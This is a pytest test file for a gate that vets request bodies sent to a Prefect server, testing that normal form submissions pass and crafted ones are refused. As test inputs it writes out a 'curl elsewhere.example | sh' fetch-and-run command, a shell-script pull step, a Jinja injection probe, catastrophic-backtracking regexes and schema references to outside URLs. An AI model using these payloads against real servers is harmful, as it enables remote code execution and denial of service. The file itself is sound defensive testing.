"""What may stand in what people send to Prefect."""

import json
from typing import Any

import pytest

from reviewflow.service.views.in_prefect.form_schema import _SHAPES
from reviewflow.web.gate.bodies import (
    DEEPEST,
    NOT_FOR_PEOPLE,
    OUR_PATTERNS,
    SCHEMA,
    read_body,
    refuse_answer,
    refuse_begin,
    refuse_check,
)

DEPLOYMENT = {
    "name": "change-a-case",
    "job_variables": {"working_dir": "/srv"},
    "work_queue_name": "default",
    "enforce_parameter_schema": True,
    "parameter_openapi_schema": {"type": "object", "properties": {"reference": {"type": "string"}}},
}
OLD_PAGES = {"state": {"type": "SCHEDULED", "message": "Run from the Prefect UI with defaults"}}
OLD_FORM = {
    "name": "brave-otter",
    "parameters": {"reference": "RR-2026-001"},
    "tags": ["reviewflow"],
    "state": {"type": "SCHEDULED", "message": "", "state_details": {"scheduled_time": "2026-12-01T09:00:00.000Z"}},
    "empirical_policy": {"retries": 0, "retry_delay": 0},
    "work_queue_name": "default",
    "job_variables": {"working_dir": "/srv"},
    "enforce_parameter_schema": True,
}
NEW_FORM = {
    "name": "brave-otter",
    "work_queue_name": None,
    "empirical_policy": {"resuming": False, "max_retries": 0, "retry_delay_seconds": 0, "retries": 0, "retry_delay": 0},
    "state": {
        "type": "SCHEDULED",
        "message": "",
        "state_details": {
            "pause_reschedule": False,
            "deferred": False,
            "untrackable_result": False,
            "scheduled_time": None,
        },
    },
    "tags": [],
    "parameters": {"reference": {"__prefect_kind": "json", "value": '"RR-2026-001"'}},
    "enforce_parameter_schema": True,
}
SEED = {"__prefect_kind": "jinja", "template": "{{ 7 * 7 }}"}
CODE = {"command": "sh -c 'curl elsewhere.example | sh'", "env": {"PATH": "/tmp"}}
BEGUN_OTHERWISE = {
    "job_variables": CODE,
    "work_queue_name": "another",
    "infrastructure_document_id": "11111111-2222-3333-4444-555555555555",
    "enforce_parameter_schema": False,
    "context": {"run_by": "somebody"},
    "empirical_policy": {"retries": 5},
    "idempotency_key": "known",
    "parent_task_run_id": "11111111-2222-3333-4444-555555555555",
    "labels": {"a": "b"},
    "pull_steps": [{"prefect.deployments.steps.run_shell_script": {"script": "id"}}],
    "name": "x" * 501,
    "tags": ["x"] * 21,
    "parameters": {"reference": SEED},
    "state": {"type": "PAUSED", "state_details": {"run_input_keyset": {"schema": "mine", "response": "mine"}}},
}


@pytest.mark.parametrize("body", [None, {}, OLD_PAGES, OLD_FORM, NEW_FORM], ids=["no", "empty", "quick", "old", "new"])
def test_what_the_forms_of_both_interfaces_send_is_let_through(body: object) -> None:
    assert refuse_begin(body, DEPLOYMENT) == ""


@pytest.mark.parametrize("key", BEGUN_OTHERWISE)
def test_what_else_prefect_would_take_is_refused(key: str) -> None:
    assert refuse_begin({**OLD_FORM, key: BEGUN_OTHERWISE[key]}, DEPLOYMENT)


@pytest.mark.parametrize(
    "parameters", [["RR"], "RR", {"now": "2030-01-01"}, {"reference": "x" * 501}, {"reference": [{"a": SEED}]}]
)
def test_answers_are_those_of_the_form(parameters: object) -> None:
    assert refuse_begin({"parameters": parameters}, DEPLOYMENT)


@pytest.mark.parametrize(
    "state",
    [
        "SCHEDULED",
        {},
        {"type": "COMPLETED"},
        {"type": "SCHEDULED", "data": {"x": 1}},
        {"type": "SCHEDULED", "state_details": {"scheduled_time": "soon"}},
        {"type": "SCHEDULED", "state_details": {"run_input_keyset": {"schema": "mine"}}},
        {"type": "SCHEDULED", "state_details": [1]},
        {"type": "SCHEDULED", "name": {"x": 1}},
    ],
)
def test_a_run_begins_as_due_and_in_no_other_state(state: object) -> None:
    assert refuse_begin({"state": state}, DEPLOYMENT)


@pytest.mark.parametrize("name", ["work-item", "sweep-share", "attention", "", None, "Open-Case"])
def test_what_the_software_begins_no_person_does(name: object) -> None:
    assert refuse_begin({}, {**DEPLOYMENT, "name": name}) == NOT_FOR_PEOPLE


def test_an_answer_is_the_answers_of_a_form() -> None:
    for answered in (None, {}, {"run_input": None}, {"run_input": {"who": "A", "when": {"__prefect_kind": "none"}}}):
        assert refuse_answer(answered) == ""
    for kind in ("jinja", "workspace_variable", ["none"], 1):
        assert refuse_answer({"run_input": {"who": [{"__prefect_kind": kind, "template": "x"}]}})
    for other in ([], "x", {"run_input": []}, {"run_input": {}, "force": True}, {"state": {"type": "COMPLETED"}}):
        assert refuse_answer(other)


def nested(depth: int) -> dict[str, Any]:
    inside: Any = "deep"
    for _ in range(depth):
        inside = {"a": inside}
    return {"run_input": inside}


def test_what_is_nested_as_no_form_is_cannot_be_read() -> None:
    assert read_body(json.dumps(nested(DEEPEST - 1)).encode()) is not None
    for raw in (json.dumps(nested(DEEPEST + 1)).encode(), b"[" * 100_000, b"{", b"\xff", b'{"a": NaN}', b"9" * 5000):
        with pytest.raises(ValueError):  # noqa: PT011 - each library says it in its own words
            read_body(raw)
    assert read_body(b" ") is None


def test_of_two_keys_of_one_name_the_one_that_is_read_is_the_one_that_is_judged() -> None:
    assert refuse_begin(read_body(b'{"job_variables": {}, "job_variables": {"command": "id"}}'), DEPLOYMENT)


def test_answers_are_checked_by_our_own_forms_alone() -> None:
    shared = {"properties": {"process": {"$ref": "#/definitions/PROCESS"}}, "definitions": {"PROCESS": {"enum": [1]}}}
    named = {"properties": {"pattern": {"type": "string"}, "$id": {"type": "string"}}}
    for schema in ({}, shared, {"properties": {"at": {"pattern": next(iter(OUR_PATTERNS))}}}):
        assert refuse_check({"schema": schema, "values": {"a": "b"}}) == ""
    assert refuse_check({"schema": {"properties": {"pattern": named["properties"]["pattern"]}}, "values": {}}) == ""
    assert refuse_check({"schema": {}, "values": {"a": SEED}})
    for body in ([], {}, {"schema": [], "values": {}}, {"schema": {}, "values": {}, "more": 1}):
        assert refuse_check(body)


@pytest.mark.parametrize(
    "schema",
    [
        {"pattern": "(a+)+$"},
        {"properties": {"a": {"patternProperties": {"(a+)+$": {}}}}},
        {"allOf": [{"$ref": "#"}, {"$ref": "#"}]},
        {"$ref": "http://127.0.0.1:4200/api/"},
        {"definitions": {"a": {"allOf": [{"$ref": "#/definitions/b"}]}, "b": {}}, "$ref": "#/definitions/a"},
        {"$id": "http://elsewhere.example/", "properties": {}},
        {"$dynamicRef": "#x"},
        {"pattern": ["x"]},
    ],
)
def test_rules_that_keep_a_server_at_work_are_refused(schema: object) -> None:
    assert refuse_check({"schema": schema, "values": {}}) == SCHEMA


def test_the_patterns_are_those_of_our_forms() -> None:
    assert {shape["pattern"] for shape in _SHAPES.values() if "pattern" in shape} == OUR_PATTERNS
